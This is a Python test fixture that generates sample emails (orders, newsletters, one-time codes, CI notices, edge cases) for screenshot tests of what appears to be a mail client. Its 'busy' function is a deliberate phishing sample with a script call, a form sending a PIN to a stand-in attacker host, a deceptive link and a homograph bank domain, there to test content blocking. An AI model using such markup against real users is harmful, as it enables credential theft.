"""Realistic mail for screenshots."""

from __future__ import annotations

import math
import struct
import zlib
from email.message import EmailMessage
from typing import TYPE_CHECKING

from tests.e2e.conftest import png_chunk
from tests.e2e.mail_with_parts import with_invitation

if TYPE_CHECKING:
    from collections.abc import Callable


def painting(width: int = 480, height: int = 300) -> bytes:
    """Paint a sunset over hills, as a PNG."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            rows += bytes(_colour(x / width, y / height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = png_chunk(b"IDAT", zlib.compress(bytes(rows), 6))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + data + png_chunk(b"IEND", b"")


def _colour(x: float, y: float) -> tuple[int, int, int]:
    if y > 0.72 + 0.05 * math.sin(9 * x):
        return 24, 44, 58
    if y > 0.58 + 0.07 * math.sin(4 * x + 1):
        return 58, 74, 96
    if math.hypot((x - 0.66) * 1.6, y - 0.42) < 0.11:
        return 255, 236, 190
    return int(250 - 60 * y), int(150 + 90 * y * (1 - x / 3)), int(120 + 60 * x)


def mail(sender: str, subject: str, text: str, html: str | None = None) -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "brave_otter_1987@example.org"
    message["Subject"] = subject
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message


def order() -> EmailMessage:
    """A shop's order: markup, remote images, a tracker, links of which one lies, files."""
    row = "<tr><td style='padding:8px 0'>{}</td><td align=right style='padding:8px 0'>{}</td></tr>"
    rows = "".join(
        row.format(*item) for item in [("Enamel kettle, moss", "42.00"), ("Tea towels, set of 3", "18.50")]
    )
    html = (
        "<html><body style='font-family:Georgia,serif;color:#26332b'><div style='max-width:560px;margin:0 auto'>"
        "<img src='https://images.fernandfell.example/logo.png' alt='Fern &amp; Fell' width=180 height=40>"
        "<h1 style='font-weight:normal;color:#2f5d46'>Thank you for your order</h1>"
        "<p>Hello Ann, order <b>FF-20417</b> is on its way and should reach you on <b>Thursday</b>.</p>"
        f"<table width='100%' style='border-top:1px solid #cfd8d2;border-bottom:1px solid #cfd8d2'>{rows}"
        "<tr><td style='padding:8px 0'><b>Total</b></td><td align=right><b>60.50</b></td></tr></table>"
        "<p style='margin-top:24px'><a style='background:#2f5d46;color:#fff;padding:12px 20px;border-radius:6px;"
        "text-decoration:none' href='https://fernandfell.example/orders/FF-20417'>Track your parcel</a></p>"
        "<img src='https://images.fernandfell.example/kettle.jpg' alt='The kettle' width=560 height=180>"
        "<p style='color:#6b7a70;font-size:13px'>Not yours? <a href='https://click.mailer.example/u/8f2'>"
        "fernandfell.example/help</a></p><img src='https://open.mailer.example/o.gif?id=8f2' width=1 height=1>"
        "</div></body></html>"
    )
    message = mail(
        "Fern & Fell <orders@fernandfell.example>",
        "Your order FF-20417 is on its way",
        "Hello Ann, order FF-20417 is on its way and should reach you on Thursday.\n\n"
        "Enamel kettle, moss: 42.00\nTea towels: 18.50\n",
        html,
    )
    message["Authentication-Results"] = (
        "mx.example.org; spf=pass; dkim=pass header.d=fernandfell.example; dmarc=pass"
    )
    message["List-Unsubscribe"] = "<https://fernandfell.example/leave/8f2>, <mailto:leave@fernandfell.example>"
    message["List-Unsubscribe-Post"] = "List-Unsubscribe=One-Click"
    message["DKIM-Signature"] = (
        "v=1; a=rsa-sha256; d=fernandfell.example; s=s1; h=From:Subject:List-Unsubscribe:List-Unsubscribe-Post; "
        "bh=AAAA; b=AAAA"
    )
    message.add_attachment(
        b"%PDF-1.7\n" + bytes(48_000), maintype="application", subtype="pdf", filename="invoice.pdf"
    )
    message.add_attachment(painting(), maintype="image", subtype="png", filename="kettle on the hill.png")
    message.add_attachment("item,price\nkettle,42.00\ntowels,18.50\n", subtype="csv", filename="order.csv")
    return message


def code() -> EmailMessage:
    html = (
        "<div style='font-family:system-ui;max-width:480px'><h2>Verify your account</h2>"
        "<p>Your verification code is</p><p style='font-size:32px;letter-spacing:6px'><b>481223</b></p>"
        "<p>It is valid for 10 minutes. Or "
        "<a href='https://github.example/verify?token=1f2e3d'>Confirm your e-mail</a>.</p></div>"
    )
    return mail(
        "GitHub <noreply@github.example>",
        "Verify your account",
        "Your verification code is 481223. It is valid for 10 minutes.",
        html,
    )


def one_time_password() -> EmailMessage:
    return mail(
        "Nordbank <sicherheit@nordbank.example>",
        "Ihr Einmalcode",
        "Ihr Bestätigungscode lautet 907-514. Geben Sie ihn niemandem weiter.",
    )


def newsletter() -> EmailMessage:
    """A newsletter: two columns that become one on a phone, and rules for the dark."""
    html = (
        "<html><head><style>body{margin:0;padding:24px 0;background:#f4efe6;color:#2b2620}"
        "body{font-family:Helvetica,sans-serif}"
        ".sheet{max-width:560px;margin:0 auto;padding:24px;background:#fff;border-radius:10px}"
        ".half{display:inline-block;width:47%;padding-right:2%;vertical-align:top}a{color:#a4471c}"
        "@media (max-width:480px){body{padding:0}.sheet{border-radius:0}.half{display:block;width:100%}}"
        "@media (prefers-color-scheme:dark){body{background:#15120e;color:#efe7dc}"
        ".sheet{background:#221d17}a{color:#ffb086}}"
        "</style></head><body><div class=sheet>"
        "<img src='https://cdn.slowweb.example/head.png' alt='The Slow Web, issue 112' width=560 height=60>"
        "<h1>Small tools that last</h1><p>This week: a text editor from 1991 that still ships, three ways to draw "
        "a map, and why your feed reader should be boring.</p>"
        "<div class=half><h3>Editors</h3><p>Four people who never changed theirs, and why.</p></div>"
        "<div class=half><h3>Maps</h3><p>Ink, tiles or a single long strip: what each is good for.</p></div>"
        "<p><a href='https://slowweb.example/112'>Read on the web</a></p>"
        "</div></body></html>"
    )
    return mail(
        "The Slow Web <hello@slowweb.example>",
        "Small tools that last · issue 112",
        "This week: a text editor from 1991 that still ships, three ways to draw a map, and a boring feed reader.",
        html,
    )


def failure() -> EmailMessage:
    text = (
        "Run 1284 of build-and-test failed on main after 6 min 12 s.\n\n"
        "  tests/test_retention.py::test_the_oldest_goes_first  FAILED\n"
        "  1 failed, 1,033 passed\n\nLog: https://ci.example/acme/rocket/runs/1284\n"
    )
    return mail("Acme CI <ci@acme.example>", "[acme/rocket] build-and-test failed on main", text)


def reply() -> EmailMessage:
    message = mail(
        "Maya Lindqvist <maya@lindqvist.example>",
        "Re: Photos from Saturday",
        "Here they are! The one over the hills is my favourite.\n\nSee you on Sunday,\nMaya 🌄\n",
    )
    message.add_attachment(painting(640, 400), maintype="image", subtype="png", filename="hills.png")
    return message


def invitation() -> EmailMessage:
    return mail(
        "Figma <no-reply@figma.example>",
        "Jonas invited you to “Onboarding v3”",
        "Jonas Weber invited you to edit Onboarding v3. Open it: https://figma.example/file/x1",
    )


def right_to_left() -> EmailMessage:
    html = (
        "<div dir=rtl style='font-size:18px'><h2>مرحبًا بك في المتجر 🎉</h2>"
        "<p>رمز التحقق الخاص بك هو <b>735912</b></p>"
        "<p>يسعدنا انضمامك إلينا. يمكنك <a href='https://souq.example/verify?t=9'>تأكيد بريدك</a> الآن.</p></div>"
    )
    return mail("سوق الكتب <books@souq.example>", "مرحبًا بك 👋 رمز التحقق", "رمز التحقق الخاص بك هو 735912", html)


def emoji() -> EmailMessage:
    return mail(
        "🦊 Foxglove Café <hello@foxglove.example>",
        "🎂🥐☕ Free croissant on your birthday 👩🏽‍🍳👨‍👩‍👧‍👦",
        "Come by this week: ☕ + 🥐 = ❤️\n\nЗдравствуйте · Γεια σας · नमस्ते · שלום\n",
    )


def bare() -> bytes:
    return b"\r\nNo subject, no sender: just this line.\r\n"


def endless_subject() -> EmailMessage:
    words = "A subject that has something to say and does not know when to stop saying it, "
    return mail("Wordy <w@wordy.example>", (words * 130)[:10_000], "The subject said it all.")


def many_files() -> EmailMessage:
    message = mail("Scanner <scan@office.example>", "50 scans", "All pages are attached.")
    small = painting(64, 40)
    for page in range(1, 51):
        message.add_attachment(small, maintype="image", subtype="png", filename=f"scan 2026-02-{page:03}.png")
    return message


def forwarded() -> EmailMessage:
    """A message with another message in it."""
    message = mail("Maya Lindqvist <maya@lindqvist.example>", "Fwd: as discussed", "See the order below.")
    inner = order()
    inner["Date"] = "Mon, 23 Nov 2026 20:51:00 +0100"
    message.add_attachment(inner)
    return message


def too_large() -> EmailMessage:
    line = "<p>Some words of a report that nobody will read to its end.</p>\n"
    return mail("Reports <r@reports.example>", "The whole report", "The short version of it.", line * 30_000)


def busy() -> EmailMessage:
    """A message with every kind of blocked content."""
    html = (
        "<p>Dear customer, your account is limited.</p><img src='https://images.example/a.png'>"
        "<img src='https://count.example/o.gif' width=1 height=1><script>steal()</script>"
        "<form action='https://steal.example/take'><input name=pin></form>"
        "<a href='https://evil.example/login'>https://bank.example/login</a> "
        "<a href='https://b\u0430nk.example/'>Help</a>"
    )
    return mail("Your Bank <support@evil.example>", "Urgent: confirm your PIN", "Confirm at once.", html)


EVERYDAY: list[tuple[Callable[[], EmailMessage], float]] = [
    (newsletter, 52),
    (reply, 27),
    (failure, 5.2),
    (invitation, 2.4),
    (one_time_password, 0.75),
    (order, 0.3),
    (code, 0.01),
]
"""The mail of a typical inbox with its age in hours, oldest first."""

ODD: list[Callable[[], EmailMessage | bytes]] = [
    too_large,
    forwarded,
    with_invitation,
    many_files,
    busy,
    endless_subject,
    bare,
    right_to_left,
    emoji,
]
